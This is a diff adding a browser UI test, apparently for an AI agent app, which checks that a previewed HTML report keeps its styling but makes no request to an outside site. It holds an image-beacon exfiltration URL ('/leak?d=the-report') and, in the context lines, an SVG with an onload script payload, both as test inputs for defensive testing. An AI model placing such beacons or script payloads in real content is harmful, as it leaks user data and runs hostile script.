@@ -112,6 +112,34 @@ def test_a_remote_image_in_an_answer_loads_nothing_live_or_reopened(
         expect(stored.locator("a.remote-image")).to_have_attribute("href", leak)
 
 
+def test_a_previewed_html_page_keeps_its_style_but_loads_nothing_remote(
+    ui_server: Server, fake_model: FakeModelServer, new_page: NewPage
+) -> None:
+    with other_site() as site:
+        page_html = (
+            "<!doctype html><style>h1 { color: rgb(1, 2, 3) }</style><h1>Report</h1>"
+            f'<img src="{site.url}/leak?d=the-report">'
+        )
+        fake_model.script(
+            {"stage": "planning", "content": plan_reply("Write")},
+            {"stage": "thinking", "content": write("report.html", page_html) + finish("ok")},
+            {"stage": "summary", "content": "A report."},
+        )
+        page = new_page()
+        page.goto(ui_server.url)
+        send_goal(page, "Write a report")
+        page.get_by_test_id("summary").get_by_test_id("file-preview").filter(
+            has_text="report.html"
+        ).click()
+        frame = page.frame_locator("[data-testid=html-preview]")
+        heading = frame.locator("h1")
+        expect(heading).to_have_css("color", "rgb(1, 2, 3)")  # the page's own style applies
+        # the image has loaded or failed: whatever it asks, it has asked
+        expect(frame.locator("img")).to_have_js_property("complete", True)
+        page.wait_for_load_state("networkidle")
+        assert site.requests == []
+
+
 EVIL_SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"
   onload="window.__pwned = (window.__pwned || '') + ' onload'; go()">
 <rect width="40" height="20" fill="teal"/>
